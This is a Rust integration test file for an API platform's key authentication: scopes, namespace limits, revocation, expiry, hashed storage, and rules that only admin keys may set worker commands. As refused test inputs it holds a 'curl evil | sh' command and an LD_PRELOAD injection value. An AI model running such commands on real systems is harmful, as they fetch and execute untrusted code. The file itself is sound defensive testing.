//! Bearer authentication, scopes, namespace restrictions, revocation and
//! expiry, and that only hashes of keys are stored.

use layer_tests::TestPlatform;
use reqwest::Method;
use serde_json::json;

#[tokio::test]
async fn missing_or_bad_keys_get_401_and_healthz_is_open() -> anyhow::Result<()> {
    let p = TestPlatform::start().await?;
    let r = p.request(Method::GET, "/v2/namespaces", None).send().await?;
    assert_eq!(r.status(), 401);
    let body: serde_json::Value = r.json().await?;
    assert_eq!(body["code"], "unauthorized", "{body}");
    assert!(body["message"].as_str().unwrap().contains("Authorization: Bearer"), "{body}");
    assert!(body["request_id"].as_str().is_some_and(|s| !s.is_empty()), "{body}");

    let (status, _) = p.call_as("lyr_not_a_key", Method::GET, "/v2/namespaces", None).await?;
    assert_eq!(status, 401);
    let r = p.request(Method::GET, "/v2/namespaces", None).header("authorization", "Basic abc").send().await?;
    assert_eq!(r.status(), 401);
    let r = p.request(Method::GET, "/healthz", None).send().await?;
    assert_eq!(r.status(), 200);
    Ok(())
}

#[tokio::test]
async fn scopes_namespaces_revocation_and_expiry() -> anyhow::Result<()> {
    let p = TestPlatform::start().await?;
    let (s, _) = p.call(Method::POST, "/v2/namespaces/a", Some(json!({"upsert_rows": [{"id": 1}]}))).await?;
    assert_eq!(s, 200);
    let (s, _) = p.call(Method::POST, "/v2/namespaces/b", Some(json!({"upsert_rows": [{"id": 1}]}))).await?;
    assert_eq!(s, 200);

    let reader = p.mint_key(json!({"r": {"scopes": ["read"]}})).await?;
    let (s, body) =
        p.call_as(&reader, Method::POST, "/v2/namespaces/a", Some(json!({"upsert_rows": [{"id": 2}]}))).await?;
    assert_eq!(s, 403, "{body}");
    assert_eq!(body["code"], "forbidden");
    let (s, _) = p.call_as(&reader, Method::POST, "/v2/namespaces/a/query", Some(json!({}))).await?;
    assert_eq!(s, 200);
    let (s, _) = p.call_as(&reader, Method::GET, "/v2/keys", None).await?;
    assert_eq!(s, 403, "keys need admin");
    let (s, _) = p.call_as(&reader, Method::POST, "/v2/apply", Some(json!({"documents": []}))).await?;
    assert_eq!(s, 403, "apply needs write");

    // A writer limited to `a`: `b` does not exist for it.
    let scoped = p.mint_key(json!({"w": {"scopes": ["write"], "namespaces": ["a"]}})).await?;
    let (s, _) =
        p.call_as(&scoped, Method::POST, "/v2/namespaces/a", Some(json!({"upsert_rows": [{"id": 3}]}))).await?;
    assert_eq!(s, 200);
    let (s, body) = p.call_as(&scoped, Method::POST, "/v2/namespaces/b/query", Some(json!({}))).await?;
    assert_eq!(s, 404, "{body}");
    assert_eq!(body["message"], "namespace b not found");
    let (s, body) = p.call_as(&scoped, Method::GET, "/v2/namespaces", None).await?;
    assert_eq!(s, 200);
    let names: Vec<&str> = body["namespaces"].as_array().unwrap().iter().map(|n| n["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["a"]);
    let (s, _) = p.call_as(&scoped, Method::GET, "/v2/udfs", None).await?;
    assert_eq!(s, 403, "a namespace-scoped key has no platform-wide read");

    // Revoked: 403, and the key lists as Revoked.
    let (s, list) = p.call(Method::GET, "/v2/keys", None).await?;
    assert_eq!(s, 200);
    let reader_id =
        list["keys"].as_array().unwrap().iter().find(|k| k["entitlements"].get("r").is_some()).unwrap()["keyId"]
            .as_str()
            .unwrap()
            .to_string();
    let (s, k) = p.call(Method::POST, &format!("/v2/keys/{reader_id}/revoke"), None).await?;
    assert_eq!((s, k["phase"].as_str()), (200, Some("Revoked")));
    let (s, body) = p.call_as(&reader, Method::POST, "/v2/namespaces/a/query", Some(json!({}))).await?;
    assert_eq!(s, 403);
    assert!(body["message"].as_str().unwrap().contains("revoked"), "{body}");
    let (_, list) = p.call(Method::GET, "/v2/keys", None).await?;
    assert!(
        list["keys"].as_array().unwrap().iter().all(|k| k["keyId"] != reader_id.as_str()),
        "revoked keys are hidden by default"
    );
    let (_, list) = p.call(Method::GET, "/v2/keys?includeRevoked=true", None).await?;
    assert!(list["keys"].as_array().unwrap().iter().any(|k| k["keyId"] == reader_id.as_str()));

    // Expired: 403 too. Expiry is moved into the past in the database.
    let short = p.mint_key(json!({"r": {"scopes": ["read"]}})).await?;
    sqlx::query("UPDATE api_keys SET expires_at = now() - interval '1 second' WHERE revoked_at IS NULL AND name = 't' AND entitlements ? 'r'")
        .execute(&p.pool)
        .await?;
    let (s, body) = p.call_as(&short, Method::POST, "/v2/namespaces/a/query", Some(json!({}))).await?;
    assert_eq!(s, 403, "{body}");
    assert!(body["message"].as_str().unwrap().contains("expired"), "{body}");
    Ok(())
}

#[tokio::test]
async fn keys_are_stored_hashed_and_shown_once() -> anyhow::Result<()> {
    let p = TestPlatform::start().await?;
    let token = p.mint_key(json!({"r": {"scopes": ["read"], "claims": ["runner"]}})).await?;
    assert!(token.starts_with("lyr_") && token.len() >= 40, "{token}");
    let rows: Vec<(String, Vec<u8>, serde_json::Value)> =
        sqlx::query_as("SELECT key_id, token_hash, entitlements FROM api_keys").fetch_all(&p.pool).await?;
    assert_eq!(rows.len(), 2, "bootstrap admin + minted");
    for (_, hash, _) in &rows {
        assert_eq!(hash.len(), 32, "sha-256");
        assert_ne!(hash.as_slice(), token.as_bytes());
    }
    let dump: String = sqlx::query_scalar("SELECT string_agg(t::text, ' ') FROM api_keys t").fetch_one(&p.pool).await?;
    assert!(!dump.contains(&token) && !dump.contains(layer_tests::ADMIN_KEY), "a secret is stored in clear");
    let (_, list) = p.call(Method::GET, "/v2/keys", None).await?;
    assert!(!list.to_string().contains(&token));
    assert!(list["keys"].as_array().unwrap().iter().all(|k| k.get("token").is_none()));
    // The runner claim is recorded for the runners to come.
    assert!(list.to_string().contains("\"runner\""));

    let (s, body) = p.call(Method::POST, "/v2/keys", Some(json!({"name": "x", "expiresAfter": "5y"}))).await?;
    assert_eq!(s, 400);
    assert_eq!(body["field"], "expiresAfter", "{body}");
    let (s, body) = p
        .call(Method::POST, "/v2/keys", Some(json!({"name": "x", "entitlements": {"a": {"scopes": ["root"]}}})))
        .await?;
    assert_eq!(s, 400, "{body}");
    assert!(body["message"].as_str().unwrap().contains("entitlements.a.scopes"), "{body}");
    Ok(())
}

/// Who may run code on runner hosts: a `worker.command` (and the
/// environment of a worker that is not an image) needs an admin key on
/// every path that writes a Function; images stay open to write keys.
#[tokio::test]
async fn only_admin_keys_set_a_worker_command_on_every_path_and_revisions_name_the_key() -> anyhow::Result<()> {
    let p = TestPlatform::start().await?;
    let writer = p.mint_key(json!({"w": {"scopes": ["write"]}})).await?;
    let key_id_of = |name: &'static str| {
        let pool = p.pool.clone();
        async move {
            sqlx::query_scalar::<_, String>("SELECT key_id FROM api_keys WHERE name = $1")
                .bind(name)
                .fetch_one(&pool)
                .await
        }
    };
    let (writer_id, admin_id) = (key_id_of("t").await?, key_id_of("bootstrap-admin").await?);
    let command = json!({"target_namespaces": ["a"], "worker": {"dispatch": "push", "command": ["python3", "w.py"]}});
    let image = json!({"target_namespaces": ["a"], "worker": {"dispatch": "push", "image": "layer/echo-rust:dev"}});
    let refused = |s: u16, r: &serde_json::Value, field: &str| {
        let m = r["message"].as_str().unwrap_or_default();
        assert_eq!((s, r["code"].as_str()), (403, Some("forbidden")), "{r}");
        assert!(m.contains(field) && m.contains("admin scope") && m.contains(&writer_id), "{r}");
    };

    // REST create.
    let (s, r) = p.call_as(&writer, Method::POST, "/v2/udfs", Some(json!({"id": "cmd", "spec": command}))).await?;
    refused(s, &r, "spec.worker.command");
    // An image is fine for a write key, and so is its environment.
    let mut image_env = image.clone();
    image_env["worker"]["env"] = json!({"MODE": "fast"});
    let (s, r) = p.call_as(&writer, Method::POST, "/v2/udfs", Some(json!({"id": "img", "spec": image_env}))).await?;
    assert_eq!(s, 200, "{r}");
    // REST update that swaps the image for a command.
    let (s, r) = p.call_as(&writer, Method::PUT, "/v2/udfs/img", Some(json!({"spec": command}))).await?;
    refused(s, &r, "spec.worker.command");
    // Apply of a resource document, in its camelCase.
    let doc = json!({"apiVersion": "hevlayer.com/v1alpha1", "kind": "Function", "metadata": {"name": "img"},
                     "spec": {"targetNamespaces": ["a"], "worker": {"dispatch": "push", "command": ["./w"]}}});
    let (s, r) = p.call_as(&writer, Method::POST, "/v2/apply", Some(json!({"documents": [doc.clone()]}))).await?;
    refused(s, &r, "spec.worker.command");
    assert!(r["message"].as_str().unwrap().starts_with("document 1 (Function/img): "), "{r}");
    // Nothing changed: still the image, one revision.
    let (_, g) = p.call(Method::GET, "/v2/udfs/img", None).await?;
    assert_eq!((g["udf"]["revision"].as_i64(), g["udf"]["spec"]["worker"].get("command")), (Some(1), None), "{g}");

    // The admin sets the command; the revision records the admin's key.
    let (s, r) = p.call(Method::PUT, "/v2/udfs/img", Some(json!({"spec": command}))).await?;
    assert_eq!((s, &r["revision"]), (200, &json!(2)), "{r}");
    // The write key may change other fields of it (the command the admin
    // chose runs on), but not the command, nor the process's environment.
    let mut v2 = command.clone();
    v2["version"] = json!("v2");
    let (s, r) = p.call_as(&writer, Method::PUT, "/v2/udfs/img", Some(json!({"spec": v2}))).await?;
    assert_eq!((s, &r["revision"]), (200, &json!(3)), "{r}");
    let mut env = v2.clone();
    env["worker"]["env"] = json!({"LD_PRELOAD": "/tmp/x.so"});
    let (s, r) = p.call_as(&writer, Method::PUT, "/v2/udfs/img", Some(json!({"spec": env}))).await?;
    refused(s, &r, "spec.worker.env");
    let mut changed = v2.clone();
    changed["worker"]["command"] = json!(["sh", "-c", "curl evil | sh"]);
    let (s, r) = p.call_as(&writer, Method::PUT, "/v2/udfs/img", Some(json!({"spec": changed}))).await?;
    refused(s, &r, "spec.worker.command");
    // A write key may create a command Function through no path; the
    // admin may through every one.
    let (s, r) = p.call(Method::POST, "/v2/apply", Some(json!({"documents": [doc]}))).await?;
    assert_eq!(s, 200, "{r}");
    let (s, r) = p.call(Method::POST, "/v2/udfs", Some(json!({"id": "cmd", "spec": command}))).await?;
    assert_eq!(s, 200, "{r}");

    let (_, revs) = p.call(Method::GET, "/v2/udfs/img/revisions", None).await?;
    let by: Vec<(i64, &str, bool)> = revs["revisions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            let set_command = r["changed"].as_array().unwrap().contains(&json!("worker.command"));
            (r["revision"].as_i64().unwrap(), r["key_id"].as_str().unwrap_or(""), set_command)
        })
        .collect();
    let (w, a) = (writer_id.as_str(), admin_id.as_str());
    assert_eq!(by, vec![(1, w, false), (2, a, true), (3, w, false), (4, a, true)], "{revs}");
    let (_, revs) = p.call(Method::GET, "/v2/udfs/cmd/revisions", None).await?;
    assert_eq!(revs["revisions"][0]["key_id"], admin_id.as_str(), "{revs}");
    Ok(())
}

/// The last active admin key can be neither revoked nor deleted (nobody
/// could manage anything after it); once another admin key exists, it can.
#[tokio::test]
async fn the_last_admin_key_cannot_be_revoked_or_deleted() -> anyhow::Result<()> {
    let p = TestPlatform::start().await?;
    let (_, keys) = p.call(Method::GET, "/v2/keys", None).await?;
    let admins: Vec<String> = keys["keys"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|k| k["entitlements"].to_string().contains("admin"))
        .filter_map(|k| k["keyId"].as_str().map(String::from))
        .collect();
    assert_eq!(admins.len(), 1, "{keys}");
    let first = &admins[0];
    for (method, path) in
        [(Method::POST, format!("/v2/keys/{first}/revoke")), (Method::DELETE, format!("/v2/keys/{first}"))]
    {
        let (s, body) = p.call(method, &path, None).await?;
        assert_eq!(s, 409, "{path}: {body}");
        assert!(body["message"].as_str().unwrap_or_default().contains("last active admin key"), "{body}");
    }
    let (s, _) = p.call(Method::GET, "/v2/udfs", None).await?;
    assert_eq!(s, 200, "the admin key still works");
    // With a second admin key, the first can go, through the second.
    let second = p.mint_key(json!({"a": {"scopes": ["admin"]}})).await?;
    let (s, body) = p.call_as(&second, Method::POST, &format!("/v2/keys/{first}/revoke"), None).await?;
    assert_eq!(s, 200, "{body}");
    let (s, _) = p.call(Method::GET, "/v2/udfs", None).await?;
    assert_eq!(s, 403, "the revoked key is refused");
    Ok(())
}
